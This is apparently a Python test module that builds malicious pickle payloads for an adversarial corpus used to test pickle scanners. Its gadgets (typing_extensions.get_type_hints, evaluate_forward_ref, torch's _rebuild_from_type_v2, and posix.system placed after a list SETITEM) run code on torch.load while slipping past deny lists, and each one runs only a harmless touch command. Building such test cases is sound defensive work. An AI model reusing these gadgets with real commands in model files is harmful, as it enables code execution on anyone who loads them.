"""Issue 8 class 1 and 13 cases for the adversarial corpus: functions of packages that are
always installed beside torch, called at load time, and a payload after a SETITEM on a list.

Every case fires for real under its stock loader (``test_corpus.py`` proves it). The
functions involved are not on any classic deny list of pickle scanners: they evaluate Python
source handed to them as *type annotations*.
"""

from __future__ import annotations

from tests.adversarial import containers as Z
from tests.adversarial import pickles as P


def _code(canary: str) -> str:
    """A Python *expression* whose evaluation creates the canary."""
    return f"__import__('os').system('touch {canary}')"


def _annotated_namespace(canary: str) -> bytes:
    """``ns = argparse.Namespace(); ns.__dict__.update({'__annotations__': {'x': code}})``
    — an object with string annotations (BUILD without __setstate__ updates __dict__)."""
    return (P.call(P.global_("argparse", "Namespace")) + P.EMPTY_DICT
            + P.binunicode("__annotations__") + P.EMPTY_DICT + P.binunicode("x")
            + P.binunicode(_code(canary)) + P.SETITEM + P.SETITEM + P.BUILD)


def get_type_hints_body(canary: str) -> bytes:
    """``typing_extensions.get_type_hints(ns)`` evaluates each string annotation (eval)."""
    return P.call(P.global_("typing_extensions", "get_type_hints"), _annotated_namespace(canary))


def get_type_hints(canary: str) -> bytes:
    return P.wrap_dict(get_type_hints_body(canary))


def evaluate_forward_ref(canary: str) -> bytes:
    """``typing_extensions.evaluate_forward_ref(typing_extensions.ForwardRef(code))``."""
    ref = P.call(P.global_("typing_extensions", "ForwardRef"), P.binunicode(_code(canary)))
    return P.wrap_dict(P.call(P.global_("typing_extensions", "evaluate_forward_ref"), ref))


def get_type_hints_in_torch_zip(canary: str) -> bytes:
    """The same call as the value of a real torch.save's data.pkl (``torch.load`` runs it)."""
    return Z.torch_zip_with(replace={"data.pkl": get_type_hints(canary)})


def function_through_rebuild_from_type(canary: str) -> bytes:
    """``torch._tensor._rebuild_from_type_v2(f, torch.Tensor, (ns,), None)`` calls
    ``f(*args)``: the function is never the target of a REDUCE itself, it is *passed* to an
    allowlisted torch function that calls it."""
    body = P.call(P.global_("torch._tensor", "_rebuild_from_type_v2"),
                  P.global_("typing_extensions", "get_type_hints"),
                  P.global_("torch", "Tensor"),
                  P.MARK + _annotated_namespace(canary) + P.TUPLE, P.NONE)
    return P.wrap_dict(body)


def payload_after_list_setitem(canary: str) -> bytes:
    """``l = [0]; l[0] = 'x'`` (SETITEM on a list: CPython's unpickler calls
    ``PyObject_SetItem``, which lists accept) and then ``posix.system(...)``."""
    lst = P.EMPTY_LIST + P.binint1(0) + P.APPEND + P.binint1(0) + P.binunicode("x") + P.SETITEM
    return (P.proto(2) + P.EMPTY_DICT + P.MARK + P.binunicode("list") + lst
            + P.binunicode("model") + P.system_call(P.touch_cmd(canary)) + P.SETITEMS + P.STOP)
